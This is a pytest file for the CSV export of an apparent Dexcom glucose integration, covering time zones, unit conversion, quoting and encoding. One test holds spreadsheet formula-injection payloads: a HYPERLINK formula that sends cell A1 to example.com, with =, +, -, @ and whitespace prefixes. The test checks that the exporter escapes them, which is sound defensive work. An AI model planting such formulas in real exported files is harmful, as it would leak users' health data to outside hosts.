"""CSV files open in spreadsheets as they are meant, whatever the records contain."""

import csv
from datetime import UTC, datetime, timedelta
from io import StringIO
from zoneinfo import ZoneInfo

from hypothesis import given, strategies as st
import pytest

from custom_components.dexcom_cgm.glucose import LoggedEvent
from custom_components.dexcom_cgm.report.csv import events_csv, readings_csv

BERLIN = ZoneInfo("Europe/Berlin")
# Half an hour before the clocks go back in Berlin.
AUTUMN = datetime(2026, 10, 25, 0, 30, tzinfo=UTC)


def event(**fields: object) -> LoggedEvent:
    """Return a logged event."""
    return LoggedEvent(record_id="event", time=AUTUMN, **fields)  # type: ignore[arg-type]  # the tests choose the fields


def rows(document: bytes) -> list[list[str]]:
    """Return the rows of a file as a program reads them."""
    return list(csv.reader(StringIO(document.decode("utf-8-sig"), newline="")))


def test_readings() -> None:
    """Times are local with their offset, values are in both units."""
    times = [int(AUTUMN.timestamp()) + 3600 * number for number in range(3)]
    document = readings_csv(
        times, [39, 181, 401], unit="mmol/L", zone=BERLIN, has_bom=False
    )
    assert document == (
        b"time,local_time,value,unit,value_mg_dl,status\r\n"
        b"2026-10-25T02:30:00+02:00,2026-10-25 02:30:00,2.2,mmol/L,39,LOW\r\n"
        b"2026-10-25T02:30:00+01:00,2026-10-25 02:30:00,10.0,mmol/L,181,\r\n"
        b"2026-10-25T03:30:00+01:00,2026-10-25 03:30:00,22.3,mmol/L,401,HIGH\r\n"
    )


def test_readings_in_mg_dl() -> None:
    """Values in mg/dL are whole numbers."""
    document = readings_csv([0], [120], unit="mg/dL", zone=UTC, has_bom=False)
    assert rows(document)[1] == [
        "1970-01-01T00:00:00+00:00",
        "1970-01-01 00:00:00",
        "120",
        "mg/dL",
        "120",
        "",
    ]


@pytest.mark.parametrize("has_bom", [True, False])
def test_byte_order_mark(has_bom: bool) -> None:
    """The mark is optional, and the header is there without any reading."""
    for document in (
        readings_csv([], [], unit="mg/dL", zone=UTC, has_bom=has_bom),
        events_csv([], unit="mg/dL", zone=UTC, has_bom=has_bom),
    ):
        assert document.startswith(b"\xef\xbb\xbf") is has_bom
        assert len(rows(document)) == 1


def test_events() -> None:
    """Amounts have their unit, and notes their text."""
    document = events_csv(
        [
            event(type="carbs", amount=45.0, text="45", unit="grams"),
            event(type="insulin", subtype="fastActing", amount=4.5, unit="units"),
            event(type="notes", text='Pizza, "large"\nwith friends'),
            event(type="carbs"),
        ],
        unit="mg/dL",
        zone=BERLIN,
        has_bom=False,
    )
    assert [row[2:] for row in rows(document)[1:]] == [
        ["carbs", "", "45", "grams", "", ""],
        ["fast_acting_insulin", "fastActing", "4.5", "units", "", ""],
        ["notes", "", "", "", "", 'Pizza, "large"\nwith friends'],
        ["carbs", "", "", "", "", ""],
    ]
    assert rows(document)[1][:2] == ["2026-10-25T02:30:00+02:00", "2026-10-25 02:30:00"]


@pytest.mark.parametrize(
    ("amount", "unit", "wanted", "cells"),
    [
        (120.0, "mg/dL", "mg/dL", ["120", "mg/dL", "120"]),
        (120.0, None, "mmol/L", ["6.7", "mmol/L", "120"]),
        (6.7, "mmol/L", "mg/dL", ["121", "mg/dL", "121"]),
        (6.7, "mmol/L", "mmol/L", ["6.7", "mmol/L", "121"]),
        (6.7, "stone", "mmol/L", ["6.7", "stone", ""]),
        (None, "mg/dL", "mg/dL", ["", "", ""]),
    ],
)
def test_measured_blood_glucose(
    amount: float | None, unit: str | None, wanted: str, cells: list[str]
) -> None:
    """Blood glucose is in the user's unit, and in mg/dL."""
    document = events_csv(
        [event(type="bloodGlucose", amount=amount, unit=unit)],
        unit=wanted,
        zone=UTC,
        has_bom=False,
    )
    assert rows(document)[1][4:7] == cells


@pytest.mark.parametrize("first", "=+-@＝＋－＠")
@pytest.mark.parametrize("before", ["", " ", "\n", "\t", "\r"])
def test_no_formulas(first: str, before: str) -> None:
    """Text that a spreadsheet would run gets an apostrophe in front of it."""
    text = f'{before}{first}HYPERLINK("https://example.com?"&A1)'
    document = events_csv(
        [event(type="notes", subtype=text, text=text, unit=text)],
        unit="mg/dL",
        zone=UTC,
        has_bom=False,
    )
    row = rows(document)[1]
    assert row[3] == row[7] == f"'{text}"


@given(st.text())
def test_any_text(text: str) -> None:
    """Any note comes back as it was, but for the apostrophe and characters of no use."""
    document = events_csv(
        [event(type="notes", text=text)], unit="mg/dL", zone=UTC, has_bom=True
    )
    header, row = rows(document)
    assert len(header) == len(row) == 8
    expected = text.replace("\0", "")
    assert row[7] in (expected, f"'{expected}")
    assert not row[7].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_lone_surrogates() -> None:
    """Text that is no valid Unicode does not break the file."""
    document = events_csv(
        [event(type="notes", text="a\ud800b")], unit="mg/dL", zone=UTC, has_bom=False
    )
    assert rows(document)[1][7] == "a?b"


def test_ninety_days() -> None:
    """A file of 90 days has a row for each reading."""
    times = [
        int((AUTUMN - timedelta(minutes=5 * each)).timestamp()) for each in range(25920)
    ]
    document = readings_csv(
        times, [120] * len(times), unit="mg/dL", zone=BERLIN, has_bom=True
    )
    assert len(rows(document)) == 25921
